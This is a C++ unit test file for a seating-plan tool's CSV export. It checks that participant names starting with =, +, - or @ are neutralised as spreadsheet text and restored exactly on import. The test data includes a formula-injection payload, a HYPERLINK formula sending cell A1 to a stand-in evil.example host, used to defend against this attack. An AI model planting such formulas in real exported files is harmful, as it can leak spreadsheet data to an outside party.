// Formula injection: names from a registration file never reach a spreadsheet as formulas, and survive a round trip.

#include <doctest/doctest.h>

#include "test_support.hpp"
#include "worldcafe/csv.hpp"
#include "worldcafe/spreadsheet_cell.hpp"

using namespace worldcafe;
using worldcafe::test::readBytes;
using worldcafe::test::runWorldcafe;
using worldcafe::test::TempDir;
using worldcafe::test::writeBytes;

namespace {

const std::string kHyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Kim\")";

Participant cellPerson(ParticipantId id, std::string name, std::string affiliation) {
    Participant p;
    p.id = id;
    p.name = std::move(name);
    p.affiliation = std::move(affiliation);
    return p;
}

}  // namespace

TEST_CASE("spreadsheet cells: neutralising is undone exactly by restoring, for every leading character") {
    for (std::string text : {"", "plain", "=1+2", "+82 10", "-3", "@SUM(A1)", "\tindented", "\rcr", "'=quoted",
                             "''@twice", "'plain", "''", "'", "김민수", "=김"}) {
        CAPTURE(text);
        const std::string neutral = neutraliseSpreadsheetCell(text);
        const char first = neutral.empty() ? 'x' : neutral.front();
        CHECK(std::string("=+-@\t\r").find(first) == std::string::npos);
        CHECK(restoreSpreadsheetCell(neutral) == text);
    }
    CHECK(neutraliseSpreadsheetCell("=1+2") == "'=1+2");
    CHECK(neutraliseSpreadsheetCell("'=1") == "''=1");
    CHECK(neutraliseSpreadsheetCell("'plain") == "'plain");
    CHECK(restoreSpreadsheetCell("'plain") == "'plain");
    CHECK(restoreSpreadsheetCell("=1") == "=1");
}

TEST_CASE("spreadsheet cells: the participants CSV export neutralises formulas and imports them back unchanged") {
    const std::vector<Participant> people = {cellPerson(1, kHyperlink, "+82 Seoul"), cellPerson(2, "@admin", "-"),
                                             cellPerson(3, "'=already", "plain")};
    const std::string csv = formatParticipantsCsv(people);
    CHECK_FALSE(csv.find(",\"=HYPERLINK") != std::string::npos);
    CHECK(csv.find(",\"'=HYPERLINK") != std::string::npos);
    CHECK(csv.find(",'+82 Seoul,") != std::string::npos);
    CHECK(csv.find("2,'@admin,'-,") != std::string::npos);
    const auto imported = parseParticipantsCsv(csv, "people.csv");
    REQUIRE(imported.participants.size() == 3);
    for (std::size_t i = 0; i < people.size(); ++i) {
        CHECK(imported.participants[i].name == people[i].name);
        CHECK(imported.participants[i].affiliation == people[i].affiliation);
    }
}

TEST_CASE("spreadsheet cells: plan --out writes names from a registration file as text, not formulas") {
    TempDir dir;
    writeBytes(dir / "people.csv", "name,affiliation\n\"" + std::string("=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")") +
                                       "\",+82\n이영희,@home\n박철수,수원시\n최수진,-\n");
    auto result = runWorldcafe({"plan", "--people", "people.csv", "--tables", "2", "--rounds", "2", "--seed", "1",
                                "--time-limit", "0", "--out", "plan.csv"},
                               dir.path());
    REQUIRE(result.exitCode == 0);
    const std::string plan = readBytes(dir / "plan.csv");
    CHECK(plan.find("\"'=HYPERLINK(") != std::string::npos);
    CHECK(plan.find(",=HYPERLINK") == std::string::npos);
    CHECK(plan.find(",\"=HYPERLINK") == std::string::npos);
    CHECK(plan.find(",'+82,") != std::string::npos);
    CHECK(plan.find(",'@home,") != std::string::npos);
    CHECK(plan.find(",'-,") != std::string::npos);
    CHECK(plan.find(",+82") == std::string::npos);
}
